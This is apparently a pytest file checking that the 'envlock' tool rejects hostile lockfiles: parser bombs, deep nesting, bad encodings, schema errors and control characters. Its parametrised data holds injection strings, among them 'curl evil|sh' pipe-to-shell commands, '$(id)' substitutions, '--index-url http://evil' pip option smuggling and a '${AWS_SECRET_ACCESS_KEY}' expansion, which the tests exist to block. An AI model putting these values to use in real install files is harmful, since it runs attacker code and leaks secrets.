"""Loading untrusted lockfiles (THREATS.md section A and 2.5).

Each case must end in one ``LockfileError`` (exit 2 through the CLI) quickly,
never ``RecursionError``, ``MemoryError`` or ``UnicodeDecodeError``.
"""

from __future__ import annotations

import resource
import time

import pytest

from envlock.errors import LockfileError
from envlock.lockfile import io
from tests.conftest import run_envlock

VALID_HEAD = 'lock-version = "1.0"\n'


def _load(text: str | bytes):
    data = text.encode("utf-8") if isinstance(text, str) else text
    return io.parse_lock(data)


def test_a1_oversized_file_is_refused_before_parsing(tmp_path):
    path = tmp_path / "big.lock"
    path.write_bytes(VALID_HEAD.encode() + b"# " + b"x" * (io.MAX_LOCK_BYTES + 10) + b"\n")
    with pytest.raises(LockfileError, match="too large"):
        io.load_lock(path)


def test_a2_dotted_key_bomb_is_rejected_fast_and_small():
    # Raw tomllib needs 7 s and 1.5 GB for this input (THREATS.md 2.5).
    bomb = "a" + ".a" * 20000 + " = 1\n"
    before_rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    with pytest.raises(LockfileError, match="dotted key"):
        _load(VALID_HEAD + bomb)
    elapsed = time.perf_counter() - start
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_rss
    assert elapsed < 0.1
    assert grown_kib < 64 * 1024


@pytest.mark.parametrize("depth", [1000, 100_000])
@pytest.mark.parametrize("opener,closer", [("[", "]"), ("{a=", "}")])
def test_a3_deep_nesting_is_a_lockfile_error(depth, opener, closer):
    text = VALID_HEAD + "x = " + opener * depth + closer * depth + "\n"
    with pytest.raises(LockfileError, match="nested"):
        _load(text)


def test_a3_nesting_inside_strings_is_not_counted():
    text = VALID_HEAD + 'created-by = "' + "[" * 200 + '"\n'
    loaded = _load(text)
    assert loaded.lock.created_by == "[" * 200


def test_a4_invalid_utf8_names_the_line():
    data = VALID_HEAD.encode() + b'created-by = "ok"\ncreated-by = "\xff\xfe"\n'
    with pytest.raises(LockfileError, match=r"line 3: invalid UTF-8"):
        _load(data)


def test_a5_bom_is_refused_with_a_hint():
    with pytest.raises(LockfileError, match="byte-order mark") as info:
        _load(b"\xef\xbb\xbf" + VALID_HEAD.encode())
    assert "without BOM" in info.value.hint


def test_a5_crlf_is_accepted_and_bare_cr_is_refused():
    assert _load(VALID_HEAD.replace("\n", "\r\n") + 'created-by = "x"\r\n').lock.created_by == "x"
    with pytest.raises(LockfileError, match="invalid TOML"):
        _load(VALID_HEAD + 'created-by = "x"\r')


def test_a6_duplicate_keys_and_tables_are_errors():
    with pytest.raises(LockfileError, match="invalid TOML"):
        _load(VALID_HEAD + 'created-by = "a"\ncreated-by = "b"\n')
    with pytest.raises(LockfileError, match="invalid TOML"):
        _load(VALID_HEAD + "[python]\n[python]\n")


def test_a6_duplicate_packages_after_normalisation():
    text = VALID_HEAD + (
        '[[python.packages]]\nname = "Foo_Bar"\nversion = "1.0"\n'
        '[[python.packages]]\nname = "foo-bar"\nversion = "1.0"\n'
    )
    with pytest.raises(LockfileError, match=r"python\.packages\[1\]\.name: 'foo-bar' duplicates python\.packages\[0\]"):
        _load(text)


@pytest.mark.parametrize(
    "snippet,expected",
    [
        ("bogus = 1", "bogus: unknown key"),
        ("[python]\nversion = 3", "python.version: must be a string, not an integer"),
        (
            '[[python.packages]]\nname = ["x"]\nversion = "1"',
            r"python.packages\[0\].name: must be a string, not an array",
        ),
        (
            '[[nvidia.gpus]]\nname = "A100"\nmemory-total-mib = nan',
            r"nvidia.gpus\[0\].memory-total-mib: must be an integer, not a float",
        ),
        (
            '[[nvidia.gpus]]\nname = "A100"\nmemory-total-mib = inf',
            r"memory-total-mib: must be an integer, not a float",
        ),
        ('[[nvidia.gpus]]\nname = "A100"\nmemory-total-mib = 99999999999999999999999', "out of range"),
        ('"" = 1', ": unknown key"),
        ('[python]\nversion = "' + "1" * 300 + '"', "python.version: is 300 characters long"),
    ],
)
def test_a7_schema_errors_name_the_field(snippet, expected):
    with pytest.raises(LockfileError, match=expected):
        _load(VALID_HEAD + snippet + "\n")


def test_a7_all_problems_are_reported_together():
    text = VALID_HEAD + (
        "[python]\nversion = 3\n"
        '[[python.packages]]\nname = "ok"\nversion = "1.0"\n'
        '[[python.packages]]\nname = "$(id)"\nversion = "1.0; curl evil|sh"\n'
    )
    with pytest.raises(LockfileError) as info:
        _load(text)
    problems = info.value.problems
    assert any(p.startswith("python.version:") for p in problems)
    assert any(p.startswith("python.packages[1].name:") for p in problems)
    assert any(p.startswith("python.packages[1].version:") for p in problems)


def test_a8_future_major_version_asks_for_an_upgrade():
    with pytest.raises(LockfileError, match="newer envlock") as info:
        _load('lock-version = "2.0"\n[python]\nversion = "3.11.7"\n')
    assert "upgrade envlock" in info.value.hint


def test_a8_newer_minor_version_loads_with_a_warning_and_ignores_new_fields():
    loaded = _load('lock-version = "1.7"\nfuture-field = "x"\n[python]\nversion = "3.11.7"\nnew-thing = 1\n')
    assert loaded.lock.python.version == "3.11.7"
    assert any("newer" in w for w in loaded.warnings)


def test_a8_missing_version_is_not_a_lockfile():
    with pytest.raises(LockfileError, match="no `lock-version`"):
        _load('[python]\nversion = "3.11.7"\n')


@pytest.mark.parametrize(
    "escaped",
    [r"\u0000", r"\n", r"\r", r"\u001b[31m", r"\u2028", r"\u202e", r"\u200b", r"\t"],
)
def test_a9_control_characters_are_rejected_even_as_toml_escapes(escaped):
    text = VALID_HEAD + f'[[nvidia.gpus]]\nname = "A100{escaped}x"\n'
    with pytest.raises(LockfileError, match=r"nvidia.gpus\[0\].name: contains the control character"):
        _load(text)


@pytest.mark.parametrize(
    "field,value",
    [
        ("name", "requests\n--index-url http://evil"),
        ("name", "-e"),
        ("name", "--extra-index-url=http://evil"),
        ("version", "1.0 --index-url http://evil"),
        ("version", "1.0\r--trusted-host evil"),
        ("name", "`id`"),
        ("version", "${AWS_SECRET_ACCESS_KEY}"),
        ("url", "https://evil.example/x.whl\nRUN curl evil|sh"),
        ("url", "https://user:pass@evil.example/x.whl"),
        ("url", "https://evil.example/$(id).whl"),
    ],
)
def test_c1_c2_requirement_smuggling_is_rejected(field, value):
    import json

    base = {"name": "requests", "version": "2.31.0"}
    base[field] = value
    body = "\n".join(f"{k} = {json.dumps(v)}" for k, v in base.items())
    with pytest.raises(LockfileError, match=rf"python\.packages\[0\]\.{field}"):
        _load(VALID_HEAD + "[[python.packages]]\n" + body + "\n")


def test_env_names_outside_the_allow_list_are_rejected():
    with pytest.raises(LockfileError, match="runtime.env.LD_PRELOAD: not an allow-listed"):
        _load(VALID_HEAD + '[runtime.env]\nLD_PRELOAD = "/tmp/x.so"\n')


def test_edited_lock_loads_with_a_warning(tmp_path):
    from envlock.lockfile import Lock, PythonSection, with_fingerprint, write_lock

    path = tmp_path / "envlock.lock"
    write_lock(with_fingerprint(Lock(python=PythonSection(version="3.11.7"))), path)
    assert io.load_lock(path).warnings == []
    path.write_text(path.read_text().replace('version = "3.11.7"', 'version = "3.11.8"'))
    warnings = io.load_lock(path).warnings
    assert len(warnings) == 1 and "edited" in warnings[0]


@pytest.mark.parametrize(
    "payload",
    [
        b"\x00\x01\x02binary\xff" * 100,
        ("a" + ".a" * 40000 + "=1").encode(),
        b'lock-version = "1.0"\nx = ' + b"[" * 5000,
        b"\xef\xbb\xbf" + b'lock-version = "1.0"\n',
        b'lock-version = "1.0"\n[[python.packages]]\nname = "x"\n',
    ],
)
def test_cli_reports_hostile_files_with_exit_2_and_no_traceback(tmp_path, payload):
    path = tmp_path / "hostile.lock"
    path.write_bytes(payload)
    start = time.perf_counter()
    result = run_envlock("show", str(path))
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith("envlock: error:")
    assert time.perf_counter() - start < 5
